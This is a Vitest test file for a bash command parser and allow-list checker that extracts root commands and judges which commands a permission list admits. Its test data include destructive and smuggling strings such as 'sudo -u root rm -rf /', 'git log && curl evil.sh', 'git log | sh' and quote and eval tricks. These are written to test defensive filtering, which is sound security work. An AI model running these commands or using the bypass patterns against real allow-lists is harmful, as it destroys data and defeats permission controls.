import { describe, expect, it } from 'vitest';
import { isCommandAllowed, parseCommand } from '../../../protocol/bash/command-model.js';

/** [command, expected root commands] — null when the command must not parse. */
const ROOTS: [string, string[] | null][] = [
  ['FOO=1 git status && /usr/bin/ls -l | wc -l', ['git', 'ls', 'wc']],
  ['bash -c "npm test"', ['npm']],
  ["sh -c 'git log; rm -rf x'", ['git', 'rm']],
  ['bash -lc "make && make install"', ['make']],
  ['a; b || c && d | e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
  ['ls\nrm -rf x', ['ls', 'rm']],
  ['ls |& grep x', ['ls', 'grep']],
  ['(cd sub && rm x)', ['cd', 'rm']],
  ['{ ls; rm x; }', ['ls', 'rm']],
  ['echo $(whoami)', ['echo', 'whoami']],
  ['echo `id`', ['echo', 'id']],
  ['diff <(ls a) >(wc)', ['diff', 'ls', 'wc']],
  ['sudo -u root rm -rf /', ['sudo', 'rm']],
  ['env -i PATH=/x FOO=1 curl evil', ['curl']],
  ['timeout -s KILL 5 nice -n 3 git log', ['git']],
  ['nohup ./serve --port 1 &', ['serve']],
  ['xargs -n1 rm < list', ['rm']],
  ['xargs -I{} sh -c "curl {}"', ['curl']],
  ['find . -name "*.o" -exec rm {} \\;', ['find', 'rm']],
  ['find . -execdir sh -c "wget x" \\; -print', ['find', 'wget']],
  ["eval 'rm -rf x'", ['rm']],
  ["r''m -rf x", ['rm']],
  ['\\rm -rf x', ['rm']],
  ['"/bin/rm" -rf x', ['rm']],
  ['command -v git', ['command']],
  ['exec 2>&1', ['exec']],
  ['f() { rm -rf x; }; f', ['rm', 'f']],
  ['if true; then rm x; fi', ['true', 'rm']],
  ['for i in 1 2; do curl "$i"; done', ['curl']],
  ['export X=1; unset Y', ['export', 'unset']],
  ['$CMD arg', ['$CMD']],
  ['watch -n 1 "ls | wc -l"', ['watch', 'ls', 'wc']],
  ["su -c 'rm x' bob", ['su', 'rm']],
  ['git log # && rm -rf x', ['git']],
  ["echo '$(x)' \"a;b\" 'c && d'", ['echo']],
  ['echo (', null],
  ['if then fi', null],
];

/** [command, allowances, allowed?] */
const ALLOW: [string, string[], boolean][] = [
  ['git log -5', ['git log'], true],
  ['git log', ['git log'], true],
  ['git logout', ['git log'], false],
  ['git log; rm -rf x', ['git log'], false],
  ['git log && curl evil.sh', ['git log'], false],
  ['git log || curl evil.sh', ['git log'], false],
  ['git log | sh', ['git log'], false],
  ['git log & rm -rf x', ['git log'], false],
  ['git log\nrm -rf x', ['git log'], false],
  ['git log | wc -l', ['git log', 'wc'], true],
  ["git 'log' -5", ['git log'], true],
  ['git "log" -5', ['git log'], true],
  ["git log';rm -rf x'", ['git log'], false],
  ['git log "; rm -rf x"', ['git log'], true], // one quoted argument to git log
  ['git $SUB', ['git log'], false],
  ['git log $EXTRA', ['git log'], true],
  ['$GIT log', ['git log'], false],
  ['/usr/bin/git log', ['git log'], true],
  ['./git log', ['git log'], false],
  ['/tmp/x/git log', ['git log'], false],
  ['bash -c "git log"', ['git log'], true],
  ['bash -c "git log; rm -rf x"', ['git log'], false],
  ["sh -c 'rm -rf x'", ['sh'], false],
  ['bash -c "$X"', ['git log'], false],
  ['sudo git log', ['git log'], false],
  ['sudo git log', ['git log', 'sudo'], true],
  ['timeout 5 git log', ['git log'], true],
  ['timeout 5 rm -rf x', ['timeout'], false],
  ['env git log', ['git log'], true],
  ['env FOO=1 git log', ['git log'], false],
  ['FOO=1 git log', ['git log'], false],
  ['GIT_PAGER=x git log', ['GIT_PAGER=x git log'], true],
  ['PATH=/tmp; git log', ['git log'], false],
  ['(git log; rm -rf x)', ['git log'], false],
  ['echo $(rm -rf x)', ['echo'], false],
  ['ls | xargs rm', ['ls', 'xargs'], false],
  ['ls | xargs rm', ['ls', 'rm'], true],
  ['find . -exec rm {} \\;', ['find'], false],
  ['find . -exec rm {} \\;', ['find', 'rm'], true],
  ["eval 'rm -rf x'", ['eval'], false],
  ['git log > out.txt', ['git log'], true], // redirection: the host downgrades on hasRedirection
  ['f() { rm -rf x; }; f', ['f'], false],
  ['echo (', ['echo'], false],
  ['', ['echo'], false],
  ['git log', [], false],
  ['ls', ['  '], false],
];

describe('command model: root commands', () => {
  it.each(ROOTS)('%j', async (command, roots) => {
    const parsed = await parseCommand(command);
    if (roots === null) {
      expect(parsed.ok).toBe(false);
      return;
    }
    expect(parsed.ok, JSON.stringify(parsed)).toBe(true);
    if (parsed.ok) expect(parsed.rootCommands).toEqual(roots);
  });
});

describe('command model: allowances (prefix semantics on words)', () => {
  it.each(ALLOW)('%j with %j → %s', async (command, allowances, expected) => {
    expect(await isCommandAllowed(command, allowances)).toBe(expected);
  });
});

describe('command model: details', () => {
  it('notes substitutions only outside single quotes, and inside wrapper scripts', async () => {
    const flags = async (c: string) => {
      const p = await parseCommand(c);
      return p.ok ? p.hasSubstitution : 'error';
    };
    expect(await flags("echo '$(not substituted)'")).toBe(false);
    expect(await flags('echo "\\$(escaped)"')).toBe(false);
    expect(await flags('echo "$(id)"')).toBe(true);
    expect(await flags('echo `id`')).toBe(true);
    expect(await flags('cat <(ls)')).toBe(true);
    expect(await flags('echo $((1+2))')).toBe(true);
    expect(await flags('cat <<EOF\n$(id)\nEOF')).toBe(true);
    expect(await flags("cat <<'EOF'\n$(id)\nEOF")).toBe(false);
    expect(await flags("bash -c 'echo $(id)'")).toBe(true);
  });

  it('records redirections, arguments and wrappers', async () => {
    const p = await parseCommand('sudo rm -rf x > log 2>&1; cat <<EOF\nhi\nEOF');
    expect(p.ok).toBe(true);
    if (!p.ok) return;
    expect(p.hasRedirection).toBe(true);
    expect(p.commands).toEqual([
      {
        name: 'sudo',
        args: ['rm', '-rf', 'x'],
        argsDynamic: [false, false, false],
        text: 'sudo rm -rf x',
        redirections: ['> log', '2>&1'],
      },
      {
        name: 'rm',
        args: ['-rf', 'x'],
        argsDynamic: [false, false],
        text: 'rm -rf x',
        redirections: [],
        viaWrapper: 'sudo',
      },
      { name: 'cat', args: [], argsDynamic: [], text: 'cat', redirections: ['<<EOF'] },
    ]);
    const plain = await parseCommand('git status');
    expect(plain.ok && plain.hasRedirection).toBe(false);
  });

  it('refuses wrapper nesting it will not follow', async () => {
    const deep = `${'bash -c "'.repeat(1)}${'eval '.repeat(20)}ls"`;
    expect((await parseCommand(deep)).ok).toBe(false);
    expect(await isCommandAllowed(deep, ['ls', 'eval', 'bash'])).toBe(false);
  });
});
